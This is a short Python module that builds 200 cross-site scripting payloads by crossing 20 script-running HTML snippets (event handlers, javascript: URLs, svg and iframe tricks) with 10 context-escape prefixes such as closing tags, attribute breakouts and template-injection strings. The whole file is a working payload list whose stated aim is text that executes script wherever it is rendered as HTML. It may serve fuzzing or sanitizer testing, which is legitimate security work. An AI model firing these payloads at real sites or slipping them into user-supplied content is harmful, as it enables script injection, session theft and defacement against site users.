"""200 texts that run a script wherever they are taken for HTML: 20 scripts × 10 ways out."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    "<details open ontoggle=alert(5)>",
    "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(7)></iframe>",
    "<video><source onerror=alert(8)></video>",
    "<audio src=x onerror=alert(9)></audio>",
    "<input autofocus onfocus=alert(10)>",
    "<body onload=alert(11)>",
    "<style onload=alert(12)></style>",
    "<object data=javascript:alert(13)></object>",
    "<embed src=javascript:alert(14)>",
    "<svg><animate onbegin=alert(15) attributeName=x dur=1s></svg>",
    "<math><mtext><img src=x onerror=alert(16)></mtext></math>",
    "<button autofocus onfocus=alert(17)>x</button>",
    "<a href=javascript:alert(18) autofocus onfocus=alert(18)>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(19)'><img src=x onerror=alert(19)>",
    "<link rel=stylesheet href=data:text/css,* onload=alert(20)>",
)

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</script>",
    "</title></style></textarea></noscript>",
    "-->",
    "</svg></text></tspan>",
    "\"]}'></code></pre>",
    "\\u003c/script\\u003e{{7*7}}${alert(0)}",
    '" onfocus=alert(0) autofocus x="\'>',
)

PAYLOADS = tuple(way + script for way in WAYS_OUT for script in SCRIPTS)
